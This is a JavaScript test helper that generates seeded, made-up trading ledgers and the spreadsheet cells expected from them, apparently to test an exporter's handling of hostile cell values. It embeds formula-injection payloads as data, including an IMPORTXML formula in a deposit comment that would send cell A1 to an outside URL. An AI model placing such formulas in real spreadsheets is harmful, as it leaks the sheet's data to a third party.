// ledger.mjs: ledgers for the tests of sheets, and what a sheet made of one
// must look like, cell by cell.
import fs from 'node:fs';
import path from 'node:path';
import { BUILD, parseCsv, run, start } from '../system/lib.mjs';

export const SEED = path.join(BUILD, 'test/sheets_seed');
const NUMBERS = ['time', 'time_msc', 'type', 'entry', 'reason', 'volume', 'price',
  'commission', 'swap', 'profit', 'fee'];

const dealOf = (row) => ({ sl: null, tp: null, ...row,
  ...Object.fromEntries(NUMBERS.map((k) => [k, Number(row[k])])) });

/** Lines for the seeding program, from a recording. */
export function recorded(dir, node) {
  const account = JSON.parse(fs.readFileSync(path.join(dir, 'account.json'), 'utf8'));
  const deals = parseCsv(fs.readFileSync(path.join(dir, 'deals.csv'), 'utf8'));
  return [
    { account: { server: account.server, login: String(account.login), node,
      currency: account.currency, currency_digits: account.currency_digits, offset_s: 10800 } },
    ...deals.map((d) => ({ deal: dealOf(d) })),
  ];
}

/** A seeded random generator: the same numbers each time. */
export function random(seed) {
  let state = BigInt(seed) * 2654435761n + 1n;
  return (n) => {
    state = (state * 6364136223846793005n + 1442695040888963407n) & ((1n << 64n) - 1n);
    return Number((state >> 33n) % BigInt(n));
  };
}

export const T0 = 1750000000000;

/** The deals of one made-up trade; ids beyond 2^53. open: it is not closed. */
export function trade(next, i, { open = false, base = 9007199254740993n } = {}) {
  const id = String(base + BigInt(i) * 10n);
  const at = T0 + i * 60000 + next(1000);
  const deal = (n, more) => ({ deal: dealOf({ ticket: String(BigInt(id) + BigInt(n)), order: '0',
    time: Math.floor(at / 1000), time_msc: at + n * 1000, type: 0, entry: 0, magic: '7',
    position_id: id, reason: 3, volume: 0.1, price: (100000 + next(5000)) / 100000, commission: -0.07,
    swap: 0, profit: 0, fee: 0, symbol: ['EURUSD', '=HYPERLINK("x")', 'XAUUSD'][next(3)],
    comment: '', external_id: '', ...more }) });
  const close = deal(1, { type: 1, entry: 1, reason: 4, swap: -next(100) / 100,
    profit: (next(20000) - 10000) / 100 });
  return open ? [deal(0)] : [deal(0), close];
}

/** A deposit whose comment would be a formula, were it entered. */
export function deposit(i, amount) {
  return { deal: dealOf({ ticket: String(9007199254740993n - BigInt(i + 1)), order: '0',
    time: T0 / 1000 - 100, time_msc: T0 - 100000 + i, type: 2, entry: 0, magic: '0', position_id: '0',
    reason: 0, volume: 0, price: 0, commission: 0, swap: 0, profit: amount, fee: 0, symbol: '',
    comment: '=IMPORTXML("https://example.org?"&A1,"//a")', external_id: '' }) };
}

export async function seed(t, ledger, lines) {
  const child = start(t, SEED, [ledger], { stdio: ['pipe', 'pipe', 'pipe'] });
  for (const line of lines)
    if (!child.child.stdin.write(`${JSON.stringify(line)}\n`))
      await new Promise((done) => child.child.stdin.once('drain', done));
  child.child.stdin.end();
  const { code, output } = await child.exited;
  if (code !== 0) throw new Error(output);
}

/** All trades and cash flows of a ledger. */
export async function dump(t, ledger) {
  const out = `${ledger}.dump`;
  const fd = fs.openSync(out, 'w');
  const { code, output } = await run(t, SEED, ['--dump', ledger], { stdio: ['ignore', fd, 'pipe'] });
  fs.closeSync(fd);
  if (code !== 0) throw new Error(output);
  const rows = fs.readFileSync(out, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
  fs.rmSync(out);
  return { trades: rows.filter((r) => r.what === 'trade'), flows: rows.filter((r) => r.what === 'flow') };
}

const REASONS = ['client', 'mobile', 'web', 'expert', 'sl', 'tp', 'stop-out'];
const serial = (msc) => msc > 0 ? msc / 86400000 + 25569 : undefined;
const text = (s) => s === '' || s === null ? undefined : s;

/** The row of Trades that a trade of the ledger must be; undefined: empty. */
export function tradeCells(t) {
  const whose = `${t.login}@${t.server}`;
  return [`${whose}#${t.position_id}${t.part ? `.${t.part}` : ''}`, t.login, t.server, t.position_id,
    text(t.symbol), ['buy', 'sell'][t.type], Number(t.volume_in), Number(t.volume_out),
    serial(t.time_open_msc), serial(t.time_close_msc), t.price_open ?? undefined,
    t.price_close ?? undefined, Number(t.profit), Number(t.commission), Number(t.swap),
    Number(t.fee), Number(t.net), text(t.currency), t.state,
    t.reason === -1 ? undefined : REASONS[t.reason]];
}

export function flowCells(f, currency) {
  return [`${f.login}@${f.server}#${f.ticket}`, f.login, f.server, f.ticket, serial(f.time_msc),
    serial(f.utc_msc), undefined /* the type */, Number(f.amount), currency, text(f.comment)];
}

/** The rows of a tab by their key, the header left out. Throws at a row twice. */
export function byKey(sheet, key = 0) {
  const found = new Map();
  for (const row of sheet.rows.slice(1)) {
    if (row[key] === undefined) continue;
    if (found.has(row[key])) throw new Error(`${sheet.title}: twice: ${row[key]}`);
    found.set(row[key], row);
  }
  return found;
}
